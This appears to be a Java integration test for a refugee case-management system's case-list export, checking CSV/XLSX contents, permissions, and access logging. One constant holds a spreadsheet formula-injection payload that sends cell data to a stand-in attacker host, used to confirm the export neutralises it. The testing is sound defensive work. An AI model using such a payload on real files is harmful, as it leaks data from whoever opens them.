package org.camino.it;

import jakarta.json.Json;
import jakarta.json.JsonArray;
import jakarta.json.JsonObject;
import jakarta.json.JsonValue;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Set;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The case list export against cases the test registers itself: the files
 * hold exactly the list API's rows for the same filter (same order, same
 * decrypted names); only holders of case:export on the mission get them;
 * counter-trafficking cases only with the CT read permission; another
 * mission's manager is refused (403); a name typed as a formula stays text;
 * every export is in the access log with its row count.
 */
@ExtendWith(DeployedCamino.class)
class CaseListExportIT {

    private static final HttpClient HTTP = HttpClient.newHttpClient();
    /** A principal's given name that a spreadsheet would run if it were not neutralised. */
    private static final String FORMULA = "=HYPERLINK(\"http://attacker.test/?\"&A1,\"Ver\")";

    private static World WORLD;
    private static World OTHER;
    private static final List<String> RESETTLEMENT = new ArrayList<>();
    private static String traffickingCase;
    private static String formulaCase;
    private static World.Member ctManager;

    @BeforeAll
    static void registerCases() {
        WORLD = World.create();
        OTHER = World.create();
        String caseworker = WORLD.token("caseworker");
        for (int i = 0; i < 3; i++) {
            RESETTLEMENT.add(AreaFixtures.newCase(caseworker, "RST", WORLD.mission()));
        }
        // accents, to see them through the byte-order mark and the XLSX strings
        RESETTLEMENT.add(CaseFixtures.number(register(caseworker, "RST", WORLD.mission(), "Zoë Ñúñez-Ågren", CaseFixtures.unique("Çé"))));
        formulaCase = CaseFixtures.number(register(caseworker, "AVR", WORLD.mission(), FORMULA, "@SUM(1+1)"));
        AreaFixtures.newCase(caseworker, "AVR", WORLD.mission());
        traffickingCase = AreaFixtures.newCase(WORLD.token("ctofficer"), "CTA", WORLD.mission());
        AreaFixtures.newCase(OTHER.token("caseworker"), "RST", OTHER.mission());
        // a counter-trafficking officer who also manages the mission: the CT role alone does not export (V24)
        ctManager = WORLD.newUser("ctmanager", new String[] {"CT_OFFICER", WORLD.mission(), null},
                new String[] {"MISSION_MANAGER", WORLD.mission(), null});
    }

    @Test
    void theManagersCsvAndXlsxHoldTheListsRowsForTheSameFilter() throws Exception {
        String manager = WORLD.token("manager");
        for (String filter : List.of("", "&type=RST", "&type=AVR&sort=number&descending=false")) {
            List<List<String>> listed = listRows(manager, filter);
            assertFalse(listed.isEmpty(), filter);
            HttpResponse<byte[]> csv = download(manager, "/api/cases/export?format=csv&mission=" + WORLD.mission() + filter);
            assertEquals(200, csv.statusCode(), new String(csv.body(), StandardCharsets.UTF_8));
            assertTrue(csv.headers().firstValue("Content-Type").orElse("").startsWith("text/csv"), csv.headers().toString());
            assertEquals(String.valueOf(listed.size()), csv.headers().firstValue("X-Export-Rows").orElse(""));
            assertArrayEquals(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, Arrays.copyOf(csv.body(), 3), "UTF-8 with BOM");
            List<CSVRecord> records = csv(csv.body());
            String heading = records.get(0).getComment();
            assertTrue(heading.contains(WORLD.mission()) && heading.contains(WORLD.username("manager"))
                    && heading.contains("Exported at"), heading);
            assertTrue(heading.contains("type=" + (filter.contains("type=") ? filter.substring(6, 9) : "any")), heading);
            assertEquals("Case number", records.get(0).get(0));
            List<List<String>> csvRows = records.subList(1, records.size()).stream().map(CSVRecord::toList)
                    .map(CaseListExportIT::unquoted).toList();
            assertEquals(listed, csvRows, "CSV " + filter);

            HttpResponse<byte[]> xlsx = download(manager, "/api/cases/export?format=xlsx&mission=" + WORLD.mission() + filter);
            assertEquals(200, xlsx.statusCode(), new String(xlsx.body(), StandardCharsets.UTF_8));
            assertEquals(listed, xlsxRows(xlsx.body()), "XLSX " + filter);
        }
        List<String> numbers = listRows(manager, "&type=RST").stream().map(r -> r.get(0)).toList();
        assertEquals(Set.copyOf(RESETTLEMENT), Set.copyOf(numbers), "the test's own resettlement cases, no other");
        String accented = listRows(manager, "&type=RST").stream().filter(r -> r.get(0).equals(RESETTLEMENT.get(3)))
                .findFirst().orElseThrow().get(1);
        assertTrue(accented.startsWith("Zoë Ñúñez-Ågren "), accented);
    }

    @Test
    void aNameTypedAsAFormulaIsTextInBothFiles() throws Exception {
        String manager = WORLD.token("manager");
        String query = "&mission=" + WORLD.mission() + "&type=AVR";
        List<CSVRecord> records = csv(download(manager, "/api/cases/export?format=csv" + query).body());
        CSVRecord row = records.stream().filter(r -> formulaCase.equals(r.get(0))).findFirst().orElseThrow();
        assertEquals("'" + FORMULA + " @SUM(1+1)", row.get(1), "quoted in CSV, so no spreadsheet runs it");
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(download(manager, "/api/cases/export?format=xlsx" + query).body()))) {
            Sheet sheet = workbook.getSheetAt(0);
            boolean found = false;
            for (Row r : sheet) {
                if (r.getCell(0) != null && formulaCase.equals(r.getCell(0).getStringCellValue())) {
                    Cell name = r.getCell(1);
                    assertEquals(CellType.STRING, name.getCellType(), "a string cell, never a formula");
                    assertEquals(FORMULA + " @SUM(1+1)", name.getStringCellValue(), "the name as typed");
                    found = true;
                }
            }
            assertTrue(found, "the case is in the XLSX");
        }
    }

    @Test
    void counterTraffickingCasesOnlyForAnExporterWhoMayReadThem() throws Exception {
        String manager = WORLD.token("manager");
        List<String> managerNumbers = csvNumbers(manager, "");
        assertFalse(managerNumbers.contains(traffickingCase), "a manager does not read CT cases, so does not export them");
        assertTrue(managerNumbers.containsAll(RESETTLEMENT));
        HttpResponse<byte[]> ctType = download(manager, "/api/cases/export?format=csv&type=CTA&mission=" + WORLD.mission());
        assertEquals(200, ctType.statusCode());
        assertEquals(List.of(), csvNumbers(manager, "&type=CTA"), "asking for CT cases gives none");

        String both = Api.token(ctManager.username(), ctManager.password(), null);
        List<String> bothNumbers = csvNumbers(both, "");
        assertTrue(bothNumbers.contains(traffickingCase), "CT read and case:export: the CT case is exported");
        assertEquals(listRows(both, "").stream().map(r -> r.get(0)).toList(), bothNumbers, "as their list shows it");

        String ctOfficer = WORLD.token("ctofficer");
        HttpResponse<byte[]> refused = download(ctOfficer, "/api/cases/export?format=csv&mission=" + WORLD.mission());
        assertEquals(403, refused.statusCode(), "the CT officer role alone holds no case:export");
    }

    @Test
    void withoutTheExportPermissionOnTheMissionTheAnswerIs403() throws Exception {
        for (String format : List.of("csv", "xlsx")) {
            HttpResponse<byte[]> caseworker = download(WORLD.token("caseworker"), "/api/cases/export?format=" + format
                    + "&mission=" + WORLD.mission());
            assertEquals(403, caseworker.statusCode(), "a caseworker reads the list but may not export it");
            assertTrue(World.object(new String(caseworker.body(), StandardCharsets.UTF_8)).containsKey("error"));
            HttpResponse<byte[]> otherManager = download(OTHER.token("manager"), "/api/cases/export?format=" + format
                    + "&mission=" + WORLD.mission());
            assertEquals(403, otherManager.statusCode(), "another mission's manager is refused, not given an empty file");
        }
        List<String> ownMission = csvNumbers(OTHER.token("manager"), "", OTHER.mission());
        assertEquals(1, ownMission.size(), "their own mission's export has their own case only: " + ownMission);
        assertTrue(ownMission.get(0).startsWith(OTHER.mission() + "-"), ownMission.toString());
    }

    @Test
    void malformedParametersAre400sNamingThem() {
        String manager = WORLD.token("manager");
        String mission = "&mission=" + WORLD.mission();
        String[][] cases = {{"format=pdf" + mission, "format"}, {"format=csv&mission=K3N", "mission"},
                {"mission=" + WORLD.mission(), "format"}, {"format=csv", "mission"}, {"format=csv&type=XYZ" + mission, "type"},
                {"format=csv&status=NOWHERE" + mission, "status"}, {"format=csv&openedFrom=2026-02-30" + mission, "openedFrom"},
                {"format=csv&sort=name" + mission, "sort"}, {"format=csv&descending=yes" + mission, "descending"},
                {"format=csv&openedFrom=2026-03-01&openedTo=2026-02-01" + mission, "openedTo"},
                {"format=csv&lang=de" + mission, "lang"}};
        for (String[] c : cases) {
            HttpResponse<String> answer = Api.get("/api/cases/export?" + c[0], manager);
            assertEquals(400, answer.statusCode(), c[0] + ": " + answer.body());
            assertEquals(List.of(c[1]), ApiInputIT.namedFields(answer), c[0] + ": " + answer.body());
        }
        // the shape is checked before the permission: a caseworker gets the same 400, not a 403
        HttpResponse<String> caseworker = Api.get("/api/cases/export?format=docx" + mission, WORLD.token("caseworker"));
        assertEquals(400, caseworker.statusCode(), caseworker.body());
    }

    @Test
    void everyExportIsInTheAccessLogWithItsFilterAndRows() throws Exception {
        String manager = WORLD.token("manager");
        int rows = listRows(manager, "&type=AVR").size();
        HttpResponse<byte[]> xlsx = download(manager, "/api/cases/export?format=xlsx&type=AVR&mission=" + WORLD.mission());
        assertEquals(200, xlsx.statusCode());
        HttpResponse<byte[]> refused = download(WORLD.token("caseworker"), "/api/cases/export?format=csv&mission=" + WORLD.mission());
        assertEquals(403, refused.statusCode());

        JsonArray log = World.array(Api.get("/api/admin/access-log?limit=1000", WORLD.token("admin")).body());
        List<JsonObject> exports = log.stream().map(JsonValue::asJsonObject)
                .filter(e -> "CASE_LIST_EXPORTED".equals(e.getString("event")))
                .filter(e -> WORLD.username("manager").equals(e.getString("username", null)))
                .filter(e -> e.getString("detail", "").startsWith("format=xlsx mission=" + WORLD.mission() + " type=AVR "))
                .toList();
        assertFalse(exports.isEmpty(), "the export is logged: " + log);
        JsonObject entry = exports.get(0);
        assertEquals("case-list:" + WORLD.mission(), entry.getString("target"));
        assertTrue(entry.getString("detail").endsWith(" rows=" + rows), entry.toString());
        assertTrue(entry.getString("detail").contains("status=any opened=.. assignedToMe=false sort=openedOn desc"), entry.toString());
        assertFalse(entry.getString("detail").contains("Zoë"), "codes only, never a name");
        assertTrue(log.stream().map(JsonValue::asJsonObject).anyMatch(e -> "ACCESS_DENIED".equals(e.getString("event"))
                && WORLD.username("caseworker").equals(e.getString("username", null))
                && e.getString("detail", "").contains("case:export:" + WORLD.mission().toLowerCase())), "the refusal is logged too");
    }

    // ---- helpers

    /** The list API's rows for the filter, as the export's columns: number, name, type, mission, status, pending, opened, unreadable. */
    private static List<List<String>> listRows(String token, String filter) {
        HttpResponse<String> page = Api.get("/api/cases?limit=200&mission=" + WORLD.mission() + filter, token);
        assertEquals(200, page.statusCode(), page.body());
        JsonObject json = World.object(page.body());
        assertTrue(json.getJsonNumber("total").longValue() <= 200, "one page holds the test's cases");
        return json.getJsonArray("rows").stream().map(JsonValue::asJsonObject).map(r -> Arrays.asList(
                r.getString("number"), r.getString("principalName", ""), r.getString("type"), r.getString("mission"),
                r.getString("status"), r.getString("pendingStatus", ""), r.getString("openedOn"),
                r.getString("unreadable", ""))).toList();
    }

    private static List<String> csvNumbers(String token, String filter) throws Exception {
        return csvNumbers(token, filter, WORLD.mission());
    }

    private static List<String> csvNumbers(String token, String filter, String mission) throws Exception {
        HttpResponse<byte[]> file = download(token, "/api/cases/export?format=csv&mission=" + mission + filter);
        assertEquals(200, file.statusCode(), new String(file.body(), StandardCharsets.UTF_8));
        List<CSVRecord> records = csv(file.body());
        return records.subList(1, records.size()).stream().map(r -> r.get(0)).toList();
    }

    /** The CSV's records (the header first, carrying the heading's comment), read past the byte-order mark. */
    private static List<CSVRecord> csv(byte[] content) throws Exception {
        String text = new String(content, StandardCharsets.UTF_8);
        assertTrue(text.startsWith("\uFEFF"), "byte-order mark");
        try (CSVParser parser = CSVFormat.DEFAULT.builder().setCommentMarker('#').get().parse(new StringReader(text.substring(1)))) {
            return parser.getRecords();
        }
    }

    /** A CSV row with the formula guard undone, to compare with the list (the test's other names start with a letter). */
    private static List<String> unquoted(List<String> row) {
        return row.stream().map(v -> v.startsWith("'=") ? v.substring(1) : v).toList();
    }

    /** The XLSX's table rows (below its header row) as text, dates as ISO days, empty cells as "". */
    private static List<List<String>> xlsxRows(byte[] content) throws Exception {
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(content))) {
            Sheet sheet = workbook.getSheetAt(0);
            int header = -1;
            for (Row row : sheet) {
                if (row.getCell(0) != null && "Case number".equals(row.getCell(0).getStringCellValue())) {
                    header = row.getRowNum();
                }
            }
            assertTrue(header > 0, "a header row below the heading");
            assertEquals(WORLD.mission(), sheet.getRow(0).getCell(1).getStringCellValue(), "the heading names the mission");
            List<List<String>> rows = new ArrayList<>();
            for (int r = header + 1; r <= sheet.getLastRowNum(); r++) {
                Row row = sheet.getRow(r);
                List<String> values = new ArrayList<>();
                for (int c = 0; c < 8; c++) {
                    Cell cell = row.getCell(c);
                    values.add(cell == null ? "" : cell.getCellType() == CellType.NUMERIC
                            ? cell.getLocalDateTimeCellValue().toLocalDate().toString() : cell.getStringCellValue());
                }
                rows.add(values);
            }
            return rows;
        }
    }

    private static String register(String token, String type, String mission, String given, String family) {
        JsonObject principal = World.object(CaseFixtures.person("x", "y", "1988-07-09", CaseFixtures.unique("P"), ""));
        String person = Json.createObjectBuilder(principal).add("givenName", given).add("familyName", family).build().toString();
        return CaseFixtures.register(token, type, mission, person);
    }

    private static HttpResponse<byte[]> download(String token, String path) throws Exception {
        return HTTP.send(HttpRequest.newBuilder(URI.create(DeployedCamino.baseUrl() + path))
                .header("Authorization", "Bearer " + token).GET().build(), HttpResponse.BodyHandlers.ofByteArray());
    }
}
